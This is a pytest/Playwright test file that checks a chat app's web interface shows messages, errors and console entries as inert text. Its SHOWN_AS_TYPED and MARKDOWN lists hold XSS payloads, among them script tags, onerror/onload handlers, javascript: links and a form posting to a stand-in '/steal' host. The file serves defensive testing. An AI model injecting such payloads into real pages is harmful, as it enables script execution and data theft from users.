"""Messages in a real Chromium: all of them is seen, none of them does anything."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, expect
from playwright.sync_api import Page as Tab

from app.answering.answering import AnswerUpdate
from app.service import Service
from engine.errors import InvalidText
from engine.prompts.modes import make_template
from tests.app.conftest import NEEDS_CHROMIUM

pytestmark = NEEDS_CHROMIUM
ELSEWHERE = "http://elsewhere.test"
GENERICS = "Use vector<int> or Map<String, List<T>> and <restate here>. If a<b and c>d then x."
SHOWN_AS_TYPED = [
    GENERICS,
    "<note><to>Tove</to><from>Jani</from></note>",
    "<test>\nline after",
    "<!-- a comment --> and <?xml version='1.0'?> and <![CDATA[x]]>",
    "&lt;b&gt; &amp;amp; &nbsp; &#x41;",
    "$5 and $10, $$ or $$$ a night",
    r"C:\(new)\temp and \\server\share \d+\.txt",
    "%%%LATEX_BLOCK_0%%%",
    '<img src="x" onerror="window.hacked=1"><script>window.hacked=1</script>',
    f"<img src={ELSEWHERE}/img.png onerror=window.hacked=1>",
    f"<style>body{{background:url({ELSEWHERE}/style.png);display:none}}</style>",
    f'<div style="background:url({ELSEWHERE}/bg.png);position:fixed;inset:0">over all</div>',
    f'<form action="{ELSEWHERE}/steal"><input name=q><button id=bait>Continue</button></form>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/a.css"><link rel="prefetch" href="{ELSEWHERE}/b">',
    f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/font)}}*{{font-family:x}}</style>",
    f'<svg onload="window.hacked=1"><image href="{ELSEWHERE}/svg.png"/></svg>',
    f'<video src="{ELSEWHERE}/v.mp4" poster="{ELSEWHERE}/p.png" autoplay></video>',
    f'<iframe src="{ELSEWHERE}/frame"></iframe><object data="{ELSEWHERE}/object"></object>',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/meta"><base href="{ELSEWHERE}/">',
    "[a link](javascript:window.hacked=1) and [data](data:text/html,<script>1</script>)",
    "[the console](/console) and ![local](/gradio_api/file=secret)",
    "</div></div></span>closed</textarea></script><b>bold</b>",
    '"></data><data value="another source',
]
MARKDOWN = [  # and what is seen of it
    (f"![]({ELSEWHERE}/markdown.png)", "🖼 elsewhere.test"),
    (f"![a cat]({ELSEWHERE}/cat.png 'title')", "🖼 a cat (elsewhere.test)"),
    (f"[![cat]({ELSEWHERE}/in-link.png)]({ELSEWHERE})", f"🖼 cat ({ELSEWHERE}/in-link.png)"),
    (f"[]({ELSEWHERE}/empty)", f"{ELSEWHERE}/empty"),
    ("Use `vector<int>` and `&lt;`.", "Use vector<int> and &lt;."),
    ("```html\n<script>window.hacked=1</script>\n", "html\n<script>window.hacked=1</script>"),
    ("`\\(x\\)` and `$$y$$`", "\\(x\\) and $$y$$"),
]


class Fetched:
    """Every request a tab makes."""

    def __init__(self, tab: Tab) -> None:
        self.urls: list[str] = []
        tab.context.on("request", lambda request: self.urls.append(request.url))

    def elsewhere(self, origin: str) -> list[str]:
        """Those to another server than the page's own."""
        local = (origin, "data:", "blob:")
        return [url for url in self.urls if not url.startswith(local)]


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Tab]:
    """A new person's browser tab."""
    context = chromium.new_context(locale="en-US", viewport={"width": 1280, "height": 800})
    yield context.new_page()
    context.close()


def open_chat(tab: Tab, url: str) -> None:
    tab.goto(url)
    expect(tab.locator("#burnish[data-ready]")).to_be_visible(timeout=30_000)


def ask(tab: Tab, question: str) -> None:
    tab.fill("#question", question)
    tab.click("#send")


def seen(text: str) -> str:
    """A text without the layout's blank lines and tabs."""
    return "\n".join(line.strip() for line in text.splitlines() if line.strip())


def converse(service: Service, user: str, texts: list[str]) -> None:
    """Store a conversation of all these messages, as questions, thoughts and answers."""
    store, parent = service.workspace.store, None
    template = make_template("plain", ())
    for text in texts:
        turn = store.add_turn(
            user_id=user,
            question=text,
            template=template,
            conversation_id="c",
            parent_answer_id=parent,
        )
        parent = store.begin_answer(
            turn.id, base_digest="b", adapter_digest=None, sampling={}, seed=1
        )
        store.finish_answer(
            parent, status="done", text=text, thought=f"<think>\n{text}\n</think>", complete=True
        )


def test_all_of_a_message_is_seen_and_none_of_it_does_anything(
    url: str, tab: Tab, service: Service
) -> None:
    fetched = Fetched(tab)
    open_chat(tab, url)
    user = person_of(tab)
    texts = [*SHOWN_AS_TYPED, *(text for text, _ in MARKDOWN)]
    converse(service, user, texts)
    shown = dict(MARKDOWN)
    wanted = [each for t in texts for each in (t, shown.get(t, t), shown.get(t, t))]
    tab.goto(f"{url}/?c=c")
    expect(tab.locator(".turn")).to_have_count(30, timeout=20_000)
    if len(texts) > 30:
        tab.click(".earlier")
    expect(tab.locator(".turn")).to_have_count(len(texts), timeout=20_000)
    tab.evaluate("document.querySelectorAll('details').forEach(d => (d.open = true))")

    messages = [seen(text) for text in tab.locator(".turn .rendered").all_inner_texts()]
    assert messages == [seen(text) for text in wanted]
    last = tab.locator(".turn").nth(0)
    last.locator("[data-does=improve]").click()
    tab.fill("#correction", SHOWN_AS_TYPED[8])
    tab.click("#save-correction")
    expect(last.locator(".corrected .rendered")).to_have_text(SHOWN_AS_TYPED[8])
    assert tab.evaluate("window.hacked") is None
    assert tab.url == f"{url}/?c=c"
    assert fetched.elsewhere(url) == []
    acting = (
        "img, form, input, style, link, script, svg, video, iframe, object, base, meta, [style]"
    )
    assert tab.locator(f".turn .rendered :is({acting})").count() == 0
    links = tab.locator(".turn .rendered a")
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer"}


def test_an_error_is_shown_as_text(
    url: str, tab: Tab, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: Any, **__: Any) -> Iterator[AnswerUpdate]:
        raise InvalidText(SHOWN_AS_TYPED[9])
        yield

    monkeypatch.setattr(service.chat, "ask", refuse)
    fetched = Fetched(tab)
    open_chat(tab, url)
    ask(tab, "What?")
    expect(tab.locator(".notice span")).to_have_text(SHOWN_AS_TYPED[9], timeout=20_000)
    expect(tab.locator("#question")).to_have_value("What?")
    assert fetched.elsewhere(url) == []
    assert tab.evaluate("window.hacked") is None


def test_code_and_formulas_are_drawn_and_copied_as_they_were_written(
    url: str, tab: Tab, service: Service
) -> None:
    answer = (
        '```cpp\n\tint a = 1 < 2;\n```\n\n\\( a_1 \\) &lt; "b" for $5 and $10:\n\n'
        "\\[ \\frac{1}{2} \\]\n\n$$E=mc^2$$\n\n`\\(code\\)`"
    )
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    open_chat(tab, url)
    converse(service, person_of(tab), [answer])
    tab.goto(f"{url}/?c=c")
    message = tab.locator(".turn .answer")
    expect(message.locator("pre .kt")).to_have_text("int", timeout=20_000)
    expect(message.locator("pre")).to_have_text("int a = 1 < 2;")
    expect(message.locator("math")).to_have_count(3)
    expect(message.locator("math[display=block]")).to_have_count(2)
    fraction = message.locator("mfrac").bounding_box()
    assert fraction is not None
    assert fraction["height"] > fraction["width"]  # it is set, one number over the other
    expect(message).to_contain_text('&lt; "b" for $5 and $10:')
    expect(message.locator("p > code")).to_have_text("\\(code\\)")

    tab.click(".turn [data-does=copy]")
    expect(tab.locator(".toast")).to_be_visible()
    assert tab.evaluate("navigator.clipboard.readText()") == answer
    tab.click(".turn .answer .copy_code_button")
    expect(tab.locator(".copy_code_button.copied")).to_have_count(1)
    assert tab.evaluate("navigator.clipboard.readText()") == "\tint a = 1 < 2;\n"


def test_where_a_page_may_not_use_the_clipboard_the_copy_button_still_does(
    url: str, tab: Tab, service: Service
) -> None:
    """Over plain HTTP a browser offers no clipboard; the page then copies a text area."""
    tab.add_init_script("delete Navigator.prototype.clipboard")
    open_chat(tab, url)
    converse(service, person_of(tab), ["a < **b**"])
    tab.goto(f"{url}/?c=c")
    tab.click(".turn [data-does=copy]")
    expect(tab.locator(".toast")).to_be_visible()
    tab.focus("#question")
    tab.keyboard.press("Control+V")
    expect(tab.locator("#question")).to_have_value("a < **b**")


def person_of(tab: Tab) -> str:
    """The person in the session's cookie, which is signed and not secret."""
    (cookie,) = (c["value"] for c in tab.context.cookies() if c["name"] == "burnish_session")
    return str(json.loads(base64.b64decode(cookie.partition(".")[0]))["user"])


def test_the_console_shows_what_people_wrote_as_text(url: str, tab: Tab, service: Service) -> None:
    text = f"<img src={ELSEWHERE}/c.png onerror=window.hacked=1> ![]({ELSEWHERE}/d.png) a<b **c**"
    *_, answer = service.chat.ask("ann", text, conversation_id="c")
    store, answer_id = service.workspace.store, str(answer.answer_id)
    store.vote(answer_id, "ann", -1, comment=text)
    store.correct(answer_id, "ann", text)
    service.rounds.last = f"failed: {text}"
    fetched = Fetched(tab)
    tab.goto(f"{url}/console")
    status = tab.locator("#status textarea")
    expect(status).to_have_value(re.compile(re.escape(text)), timeout=30_000)
    tab.get_by_role("tab", name="Training data").click()
    expect(tab.locator("#rows td").filter(has_text=text)).to_have_count(2, timeout=20_000)
    assert tab.evaluate("window.hacked") is None
    assert fetched.elsewhere(url) == []
